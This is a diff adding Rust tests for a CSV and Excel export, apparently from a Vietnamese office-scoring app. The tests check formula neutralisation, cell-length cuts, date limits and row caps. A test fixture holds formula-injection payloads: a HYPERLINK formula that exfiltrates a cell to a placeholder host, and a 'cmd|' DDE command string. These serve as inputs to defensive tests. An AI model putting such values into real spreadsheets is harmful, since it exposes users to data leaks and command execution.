@@ -2,7 +2,7 @@
 //! criteria): every view's shape, the CSV text, and (feature `xlsx`) a
 //! workbook that is a zip and the same bytes every time.
 
-use super::csv::{BOM, cell_text, csv, field, file_name};
+use super::csv::{BOM, cell_text, csv, field, file_name, neutralise};
 use super::{Cell, ColumnKind, View, table};
 use crate::domain::Title;
 use crate::domain::rules::Date;
@@ -181,4 +181,185 @@ fn the_workbook_is_a_zip_and_the_same_bytes_every_time() {
     let mut other = s.clone();
     other.offices[0].freshness.last_change_secs = Some(1_790_000_000);
     assert_ne!(workbook(&other).unwrap(), a);
+}
+
+#[test]
+fn text_that_starts_like_a_formula_gets_a_quote() {
+    for text in ["=1+1", "+84 912", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
+        assert_eq!(neutralise(text), format!("'{text}"), "{text:?}");
+        assert_eq!(
+            cell_text(&Cell::Text(text.into())),
+            format!("'{text}"),
+            "{text:?}"
+        );
+    }
+    for text in ["Lạng Sơn", "12/QĐ-UBND", "a=b", " =1", "", "'=1"] {
+        assert_eq!(neutralise(text), text, "{text:?}");
+    }
+    // Numbers and dates we write ourselves stay numbers.
+    assert_eq!(cell_text(&Cell::Integer(-3)), "-3");
+    assert_eq!(cell_text(&Cell::Decimal(-1.5)), "-1.5");
+}
+
+/// The fixture with names typed by an office that would run in Excel.
+fn hostile_summary() -> ClusterSummary {
+    let mut s = summary();
+    s.offices[0].name = "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm vào đây\")".into();
+    s.offices[1].name = "-2+3+cmd|' /C calc'!A0".into();
+    s
+}
+
+#[test]
+fn csv_text_cannot_become_a_formula() {
+    let s = hostile_summary();
+    let text = csv(&s, View::Overview);
+    assert!(
+        text.contains("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Bấm vào đây\"\")\""),
+        "{text}"
+    );
+    assert!(text.contains(",'-2+3+cmd|' /C calc'!A0,"), "{text}");
+    // No field starts like a formula: every field after a separator.
+    let body = text.strip_prefix(BOM).unwrap();
+    for line in body.split("\r\n") {
+        for f in line.split(',') {
+            let f = f.trim_start_matches('"');
+            assert!(!f.starts_with(['=', '+', '@']), "{f:?} in {line:?}");
+        }
+    }
+    // A criterion id (typed by the leading office) heads a column.
+    let mut s = summary();
+    s.criteria[0].id = "=C1".into();
+    let text = csv(&s, View::Scores);
+    assert!(text.contains(",'=C1 tự chấm (tối đa 25),"), "{text}");
+}
+
+#[test]
+fn csv_keeps_overlong_text_whole() {
+    let mut s = summary();
+    let long = "Đ".repeat(40_000);
+    s.offices[0].name = long.clone();
+    let text = csv(&s, View::Overview);
+    assert!(text.contains(&format!(",{long},")));
+}
+
+#[cfg(feature = "xlsx")]
+mod workbook {
+    use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
+
+    use super::super::xlsx::{
+        CUT_MARK, MAX_CELL_CHARS, created_secs, fit_cell, workbook, workbook_with_rows,
+    };
+    use super::*;
+
+    fn open(bytes: Vec<u8>) -> Xlsx<std::io::Cursor<Vec<u8>>> {
+        open_workbook_from_rs(std::io::Cursor::new(bytes)).expect("a readable workbook")
+    }
+
+    fn utf16(s: &str) -> usize {
+        s.encode_utf16().count()
+    }
+
+    #[test]
+    fn overlong_text_is_cut_to_excels_limit_with_a_mark() {
+        assert_eq!(fit_cell("Lạng Sơn"), "Lạng Sơn");
+        let exact = "a".repeat(MAX_CELL_CHARS);
+        assert_eq!(fit_cell(&exact), exact);
+        for long in [
+            "Đ".repeat(40_000),
+            "a".repeat(MAX_CELL_CHARS + 1),
+            // Two UTF-16 units each: never cut in the middle of one.
+            "😀".repeat(20_000),
+        ] {
+            let cut = fit_cell(&long);
+            assert!(cut.ends_with(CUT_MARK));
+            assert!(utf16(&cut) <= MAX_CELL_CHARS);
+            assert!(utf16(&cut) >= MAX_CELL_CHARS - 1);
+            assert!(long.starts_with(cut.strip_suffix(CUT_MARK).unwrap()));
+        }
+    }
+
+    #[test]
+    fn a_40000_character_name_gives_a_valid_workbook() {
+        let mut s = summary();
+        let long = "Đ".repeat(40_000);
+        s.offices[0].name = long.clone();
+        s.offices[1].registrations.people[0].full_name = "😀".repeat(20_000);
+        let mut book = open(workbook(&s).expect("the workbook, whatever one name"));
+        let overview = book.worksheet_range("Tổng hợp").unwrap();
+        match overview.get((1, 2)) {
+            Some(Data::String(name)) => {
+                assert_eq!(utf16(name), MAX_CELL_CHARS);
+                assert!(name.ends_with(CUT_MARK));
+                assert!(long.starts_with(name.strip_suffix(CUT_MARK).unwrap()));
+            }
+            other => panic!("{other:?}"),
+        }
+        // The rest of the row is intact.
+        assert_eq!(overview.get((1, 3)), Some(&Data::Float(10.0)));
+        let registrations = book.worksheet_range("Đăng ký").unwrap();
+        let cut = (0..registrations.height())
+            .filter_map(|r| match registrations.get((r, 3)) {
+                Some(Data::String(n)) if n.ends_with(CUT_MARK) => Some(n.clone()),
+                _ => None,
+            })
+            .collect::<Vec<_>>();
+        assert_eq!(cut.len(), 1 + 1, "the office's row and the person's");
+    }
+
+    #[test]
+    fn text_stays_text_in_the_workbook() {
+        let s = hostile_summary();
+        let mut book = open(workbook(&s).unwrap());
+        let overview = book.worksheet_range("Tổng hợp").unwrap();
+        assert_eq!(
+            overview.get((1, 2)),
+            Some(&Data::String(s.offices[0].name.clone())),
+            "written as a string, not a formula, and without a quote"
+        );
+        let formulas = book.worksheet_formula("Tổng hợp").unwrap();
+        assert!(
+            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+            "no formula in the workbook"
+        );
+    }
+
+    #[test]
+    fn dates_and_times_outside_excels_calendar_do_not_fail_the_workbook() {
+        let mut s = summary();
+        s.offices[0].freshness.last_change_date = Some(Date::new(1800, 1, 1).unwrap());
+        s.offices[0].freshness.last_change_secs = Some(i64::MAX);
+        assert_eq!(created_secs(&s), 253_402_300_799);
+        let mut book = open(workbook(&s).unwrap());
+        let overview = book.worksheet_range("Tổng hợp").unwrap();
+        assert_eq!(
+            overview.get((1, 17)),
+            Some(&Data::String("01/01/1800".into())),
+            "as text, dd/mm/yyyy"
+        );
+        // No change at all, and a year Excel does not know.
+        for o in &mut s.offices {
+            o.freshness.last_change_secs = None;
+        }
+        s.year = 99_999;
+        assert!(workbook(&s).is_ok());
+        s.offices[0].freshness.last_change_secs = Some(i64::MIN);
+        assert_eq!(created_secs(&s), -2_209_075_200);
+        assert!(workbook(&s).is_ok());
+    }
+
+    #[test]
+    fn rows_past_the_sheets_limit_are_counted_in_a_last_row() {
+        let s = summary();
+        let all = table(&s, View::Overview).rows.len();
+        assert!(all > 3);
+        let mut book = open(workbook_with_rows(&s, 4).unwrap());
+        let overview = book.worksheet_range("Tổng hợp").unwrap();
+        assert_eq!(overview.height(), 4, "the header, two rows, the note");
+        match overview.get((3, 0)) {
+            Some(Data::String(note)) => {
+                assert!(note.contains(&format!("còn {} dòng", all - 2)), "{note}")
+            }
+            other => panic!("{other:?}"),
+        }
+    }
 }
